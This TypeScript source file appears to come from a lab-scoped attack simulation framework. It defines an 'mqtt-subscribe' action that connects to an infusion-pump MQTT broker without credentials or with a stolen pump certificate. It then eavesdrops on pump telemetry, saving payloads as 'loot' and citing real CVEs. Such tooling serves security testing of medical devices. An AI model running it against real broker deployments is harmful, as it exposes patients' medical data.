import { z } from 'zod';
import type { Action } from './action.ts';
import { openBrokerSession } from './broker-session.ts';
import { evidence, evidenceCodes, report, statusOf } from './evidence.ts';

const params = z.strictObject({
  identity: z.enum(['none', 'stolen-device']),
  /** An MQTT topic filter, e.g. `pumplab/v1/pumps/+/status`. */
  topic: z.string().min(1).max(200),
  /** Lab milliseconds to listen after the subscription is granted. */
  listenMs: z.number().int().positive().max(3_600_000),
});

/** Payloads kept at most: enough to count every patient of a ward, bounded against a flood. */
const maxMessages = 5_000;

/**
 * Eavesdrops on pump telemetry: connects to the broker (one-way TLS, or presenting a stolen pump's
 * certificate), subscribes to `topic` and listens for `listenMs` of lab time. Retained statuses
 * arrive at once; every payload goes to loot.data (CVE-2020-12040, CVE-2023-30561 pattern).
 */
export const mqttSubscribe: Action<typeof params> = {
  name: 'mqtt-subscribe',
  summary: 'Subscribes to pump telemetry on the broker and keeps every payload it receives.',
  params,
  async run(context, { identity, topic, listenMs }) {
    const opened = await openBrokerSession(context, identity);
    if (!opened.ok) return opened.report;
    const { session, where, items } = opened.broker;
    let received = 0;
    session.onMessage((_topic, payload) => {
      received += 1;
      if (context.loot.data.length < maxMessages) context.loot.data.push(payload.toString('utf8'));
    });
    try {
      const granted = await session.subscribe(topic);
      if (!granted.ok) {
        items.push(evidence('mqtt', granted.code, granted.line, where));
        return report('blocked', 'The broker refused the subscription.', items);
      }
      await Promise.race([context.lab.wait(listenMs), session.whenClosed()]);
    } finally {
      await session.close();
    }
    items.push(
      evidence(
        'mqtt',
        received > 0 ? evidenceCodes.answered : evidenceCodes.noMessages,
        `${received} message(s) received`,
        where,
      ),
    );
    return report(statusOf(received > 0), `Listened on ${topic} and received ${received} message(s).`, items);
  },
};
